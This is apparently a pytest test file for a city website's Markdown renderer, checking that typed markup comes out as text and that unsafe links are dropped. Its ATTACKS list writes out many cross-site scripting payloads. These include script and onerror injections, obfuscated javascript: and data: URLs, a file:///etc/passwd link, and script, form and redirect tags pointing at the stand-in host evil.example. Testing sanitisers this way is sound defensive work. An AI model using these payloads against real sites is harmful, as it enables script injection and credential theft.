"""What a city writes on its pages: Markdown comes out as HTML, attacks come out as the text they are."""

import re
import time
import tomllib
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from src.platform.web.texts import linked, rendered
from src.tenants.cities.markdown import CHARACTERS_AT_MOST, TextTooLong, allowed_link, leads_outside, page_html

PAGES = Path(__file__).parents[2] / "src/tenants/starter/data/pages.toml"
TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s", "strong",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


def harmless(body: str, **given: str) -> BeautifulSoup:
    """The page as a browser reads it, checked for all that must never be in it."""
    soup = BeautifulSoup(str(page_html(body, **given)), "html.parser")
    for element in soup.find_all(True):
        assert element.name in TAGS, element.name
        assert set(element.attrs) <= {"href", "rel", "class", "start", "tabindex"}, element.attrs
        if element.name == "a" and "href" in element.attrs:
            assert re.match(r"(?:https?://|mailto:|tel:|/(?![/\\]))", str(element["href"])), element["href"]
    return soup


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>body{display:none}</style>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/&#x2F;evil.example)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](http://[evil)",
    "[x](pages/about)",
    "[x](?q=1)",
    "[x](ftp://evil.example/)",
    "[x](mailto:)",
    "[x](tel://evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,evil",
    "<javascript:alert(1)>",
    "<data:text/html,evil>",
    "![x](javascript:alert(1))",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "    <script>alert(1)</script>",
    "|<script>|b|\n|-|-|\n|<img onerror=1>|c|",
    "# <script>alert(1)</script>",
    "## [x](javascript:alert(1))",
    "[<script>alert(1)</script>](https://ok.example)",
    "[x](https://ok.example)<script>",
    "{onclick=alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_text(attack: str) -> None:
    soup = harmless(attack)
    for link in soup.find_all("a"):
        assert "evil" not in str(link.get("href"))


@pytest.mark.parametrize("attack", [text for text in ATTACKS if text.startswith("<")])
def test_markup_that_was_typed_is_seen_as_typed(attack: str) -> None:
    assert harmless(attack).get_text().split() == attack.split()


@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", "\n", "- ", "> ", "**", "`", "[", "](", ")", "|", "# "]), max_size=12))
@settings(max_examples=200, deadline=None)
def test_attacks_together_are_no_worse(parts: list[str]) -> None:
    harmless("".join(parts))


@given(st.text(alphabet="ab<>&\"'[]()!`*_#-|:/\\ \n\t~1.", max_size=200))
@settings(max_examples=300, deadline=None)
def test_any_text_comes_out_harmless(body: str) -> None:
    harmless(body)


def test_pages_of_before_come_out_as_they_did() -> None:
    def same(text: str) -> str:
        return re.sub(r"\s+", " ", re.sub(r">\s+<", "><", text.replace("&nbsp;", "\xa0")))

    for page in tomllib.loads(PAGES.read_text(encoding="utf-8"))["page"]:
        for body in page["body"].values():
            assert same(str(page_html(body, "15-51"))) == same(str(rendered(body, "15-51")))


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("один\nдва", "<p>один<br>два</p>"),
        ("один\r\n\r\nдва", "<p>один</p><p>два</p>"),
        ("## Є\nтекст", "<h2>Є</h2><p>текст</p>"),
        ("текст\n## Є", "<p>текст</p><h2>Є</h2>"),
        ("текст:\n- а\n- б", "<p>текст:</p><ul><li>а</li><li>б</li></ul>"),
        ("- а\n- б\nтекст", "<ul><li>а</li><li>б</li></ul><p>текст</p>"),
        ("- а\n  далі\n- б", "<ul><li>а<br>далі</li><li>б</li></ul>"),
        ("- а\n  - б", "<ul><li>а<ul><li>б</li></ul></li></ul>"),
        ("3. а\n4. б", '<ol start="3"><li>а</li><li>б</li></ol>'),
        ("рядок\n---", "<p>рядок</p><hr>"),
        ("    з відступом", "<p>з відступом</p>"),
        ("**так** і *так* і ~~ні~~", "<p><strong>так</strong> і <em>так</em> і <s>ні</s></p>"),
        ("> слова", "<blockquote><p>слова</p></blockquote>"),
        ("2 < 3 & 4 > 1", "<p>2 &lt; 3 &amp; 4 &gt; 1</p>"),
        ("«лапки» і об’єкт", "<p>«лапки» і об’єкт</p>"),
        (
            "|а|б|\n|-|-:|\n|1|2|",
            (
                '<div class="table-wrap" tabindex="0"><table class="table"><thead><tr><th>а</th><th class="num">б</th></tr></thead>'
                '<tbody><tr><td>1</td><td class="num">2</td></tr></tbody></table></div>'
            ),
        ),
        ("", ""),
        ("  \n ", ""),
    ],
)
def test_what_is_written_is_what_comes_out(body: str, html: str) -> None:
    assert re.sub(r">\s+|\s+<", lambda found: found.group().strip(), str(page_html(body))) == re.sub(
        r">\s+|\s+<", lambda found: found.group().strip(), html
    )


@pytest.mark.parametrize(
    ("body", "levels"),
    [
        ("# а\n## б\n### в", [2, 3, 4]),
        ("## а\n## б", [2, 2]),
        ("## а\n#### б", [2, 3]),
        ("### а\n# б", [3, 2]),
        ("# а\n## б\n### в\n#### г\n##### ґ\n###### д", [2, 3, 4, 5, 6, 6]),
    ],
)
def test_headings_begin_under_the_pages_own_and_leave_no_gaps(body: str, levels: list[int]) -> None:
    assert [int(element.name[1]) for element in harmless(body).find_all(re.compile(r"h\d"))] == levels


def test_numbers_and_addresses_are_links_but_not_in_headings_and_links() -> None:
    soup = harmless(
        "## Це не 102\nТелефонуйте **102** або 15-51, пишіть на rada@kyiv.example; стаття 102.\n\n[подзвоніть 102](/pages/about)",
        contact_phone="15-51",
    )
    assert [str(link["href"]) for link in soup.find_all("a")] == [
        "tel:102",
        "tel:1551",
        "mailto:rada@kyiv.example",
        "/pages/about",
    ]


@pytest.mark.parametrize(
    ("address", "outside"),
    [
        ("https://rada.example/", True),
        ("http://rada.example/", True),
        ("https://kyiv.example/pages/about", False),
        ("https://KYIV.example/", False),
        ("https://kyiv.example.evil.example/", True),
        ("/pages/about", False),
        ("mailto:rada@kyiv.example", False),
        ("tel:+380441234567", False),
    ],
)
def test_links_to_outside_say_so_to_machines(address: str, outside: bool) -> None:
    link = harmless(f"[x]({address})", host="kyiv.example:8000").find("a")
    assert allowed_link(address) and leads_outside(address, "kyiv.example") is outside
    assert link.get("rel") == (["noopener", "nofollow"] if outside else None)


@pytest.mark.parametrize(
    "address",
    ["https://kyiv.example@evil.example/", "https://a:b@evil.example", "/%5cevil.example", "//evil.example", "x", "#x", ""],
)
def test_links_that_mislead_or_lead_nowhere_are_none(address: str) -> None:
    assert not allowed_link(address)
    assert not harmless(f"[x]({address})").find_all("a", href=lambda href: href and not href.startswith("mailto:"))


def test_a_picture_becomes_a_link_to_it() -> None:
    assert str(harmless("![Парк](https://foto.example/1.png)").p) == (
        '<p><a href="https://foto.example/1.png" rel="noopener nofollow">Парк</a></p>'
    )
    assert str(harmless("[![Парк](https://foto.example/1.png)](/pages/about)").p) == '<p><a href="/pages/about">Парк</a></p>'
    assert str(harmless("![][1]\n\n[1]: /1.png").p) == '<p><a href="/1.png">/1.png</a></p>'


def test_a_text_is_bounded() -> None:
    assert page_html("я" * CHARACTERS_AT_MOST)
    with pytest.raises(TextTooLong):
        page_html("я" * (CHARACTERS_AT_MOST + 1))


@pytest.mark.parametrize(
    "piece",
    [
        "a",
        "a@",
        "102 ",
        "[",
        "![",
        "[a](",
        "*a ",
        "**",
        "_a_ ",
        "`a``",
        "> ",
        ">",
        "- ",
        "1. ",
        "|",
        "|a|\n",
        "<",
        "<a ",
        "&a",
        "[]: ",
    ],
)
def test_a_text_made_to_take_long_does_not(piece: str) -> None:
    began = time.process_time()
    page_html((piece * CHARACTERS_AT_MOST)[:CHARACTERS_AT_MOST], "15-51")
    assert time.process_time() - began < 5  # under a second on a machine that is not busy; squares would take minutes


@pytest.mark.parametrize("text", ["пишіть:a.b@c.example.", "(a+b@c.example)", "стаття 102", "ст. 102, 103", "102."])
def test_links_in_words_are_found_as_before(text: str) -> None:
    assert BeautifulSoup(str(linked(text)), "html.parser").get_text() == text
    assert bool(re.search("<a ", str(linked(text)))) == ("ст" not in text)
